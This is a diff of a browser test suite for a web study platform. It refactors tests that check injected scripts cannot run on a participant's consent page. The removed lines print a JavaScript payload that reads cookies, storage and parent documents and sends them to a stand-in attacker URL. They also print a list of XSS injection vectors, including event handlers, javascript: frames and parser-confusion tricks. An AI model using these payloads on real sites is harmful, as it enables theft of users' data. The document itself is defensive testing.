@@ -3,76 +3,22 @@ participants."""
 
 import json
 from collections.abc import Iterator
-from dataclasses import dataclass, field
-from http.server import BaseHTTPRequestHandler
 from typing import Any
-from urllib.parse import unquote
 
 import pytest
 from playwright.sync_api import Page, expect
 
+from tests.browser.attacker import SCRIPTED, Attacker, fill_in, open_attacker
 from tests.browser.conftest import Visitor
 from tests.browser.pages import content, expect_heading, settle, submit, submit_button
-from tests.browser.site import FrontDoor, serve
+from tests.browser.site import FrontDoor
 from tests.support.study_world import PAGES, StudyWorld
-
-# The actions of an injected script: read data, and send it away.
-STEAL = """
-const loot = [];
-const take = (name, get) => {
-  try { loot.push(name + "=" + get()); } catch (error) { loot.push(name + "!" + error.name); }
-};
-take("own storage", () => JSON.stringify(localStorage));
-take("top storage", () => JSON.stringify(top.localStorage));
-take("parent document", () => parent.document.body.innerHTML);
-take("top document", () => top.document.title);
-take("top address", () => top.location.href);
-take("referrer", () => document.referrer);
-take("ancestors", () => [...location.ancestorOrigins].join());
-take("cookie", () => document.cookie);
-take("leave", () => { top.location = "ATTACKER/left"; });
-take("lead away", () => { parent.location = "ATTACKER/away"; });
-for (const target of [parent, top]) target.postMessage({type: "submit", answers: {forged: "1"}}, "*");
-new Image().src = "ATTACKER/loot?" + encodeURIComponent(loot.join("\\n"));
-"""
-
-
-@dataclass
-class Attacker:
-    """Another party's server; `asked` are the paths that were requested from it."""
-
-    url: str = ""
-    asked: list[str] = field(default_factory=list)
-
-    def make_handler(self, *arguments: Any) -> BaseHTTPRequestHandler:
-        """Note each request; every page that it serves except /plain runs STEAL."""
-        attacker = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:  # noqa: N802
-                attacker.asked.append(unquote(self.path))
-                script = "" if self.path == "/plain" else STEAL.replace("ATTACKER", attacker.url)
-                page = f"<h1>Elsewhere</h1><script>{script}</script>".encode()
-                self.send_response(200)
-                self.send_header("Content-Type", "text/html")
-                self.send_header("Content-Length", str(len(page)))
-                self.end_headers()
-                self.wfile.write(page)
-
-            do_POST = do_GET  # noqa: N815
-
-            def log_message(self, *_: Any) -> None:
-                """Keep the tests' output readable."""
-
-        return Handler(*arguments)
 
 
 @pytest.fixture
 def attacker() -> Iterator[Attacker]:
     """Yield an attacker's server."""
-    attacker = Attacker()
-    with serve(attacker.make_handler) as port:
-        attacker.url = f"http://127.0.0.1:{port}"
+    with open_attacker() as attacker:
         yield attacker
 
 
@@ -93,10 +39,7 @@ def site(site: str, config: dict[str, Any]) -> str:
 
 def open_hostile(world: StudyWorld, visitor: Visitor, attacker: Attacker, html: str) -> Page:
     """Open a study whose first page has this content, for a participant with the id `victim`."""
-    inline = STEAL.replace("ATTACKER", attacker.url)
-    html = html.replace("ATTACKER", attacker.url).replace("STEAL", inline.replace('"', "&quot;"))
-    html = html.replace("SCRIPT", inline)
-    world.publish({**PAGES, "consent.html": f"<h1>Consent</h1>{html}"})
+    world.publish({**PAGES, "consent.html": f"<h1>Consent</h1>{fill_in(html, attacker)}"})
     page = visitor.open(userId="victim", PROLIFIC_PID="secret-pid")
     expect_heading(page, "Consent")
     page.wait_for_timeout(400)
@@ -116,26 +59,7 @@ def check_unharmed(page: Page, door: FrontDoor, attacker: Attacker) -> None:
     assert door.forms()[0].get("forged") is None
 
 
-@pytest.mark.parametrize(
-    "html",
-    [
-        "<script>SCRIPT</script>",
-        "<script src='ATTACKER/script.js'></script>",
-        '<img src="/missing.png" onerror="STEAL">',
-        '<svg onload="STEAL"></svg><svg><script>SCRIPT</script></svg>',
-        '<details open ontoggle="STEAL">x</details>',
-        '<iframe srcdoc="<script>STEAL</script>" title="x"></iframe>',
-        '<iframe src="javascript:STEAL" title="x"></iframe>',
-        '<object data="ATTACKER/object.html"></object><embed src="ATTACKER/embed.html">',
-        '<meta http-equiv="refresh" content="0; url=ATTACKER/refresh">',
-        '<base href="ATTACKER/"><base target="_top">',
-        '<link rel="prefetch" href="ATTACKER/prefetch"><link rel="import" href="ATTACKER/import">',
-        "<template><script>SCRIPT</script></template>"
-        "<noscript><p title='</noscript><img src=x onerror=\"STEAL\">'>",
-        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=\"STEAL\">'>",
-    ],
-    ids=lambda html: html[:24],
-)
+@pytest.mark.parametrize("html", SCRIPTED, ids=lambda html: html[:24])
 def test_no_script_of_the_page_runs(
     world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker, html: str
 ) -> None:
